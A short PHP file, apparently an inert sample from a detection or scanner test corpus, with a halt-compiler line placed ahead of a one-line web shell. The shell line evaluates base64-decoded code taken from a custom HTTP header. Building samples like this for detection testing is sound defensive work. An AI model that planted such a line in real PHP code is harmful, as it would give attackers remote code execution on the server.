<?php __halt_compiler(); /* hegui corpus: inert sample - PHP stops compiling here */ ?>
<?php @eval(base64_decode($_SERVER['HTTP_X_ZZWX'])); ?>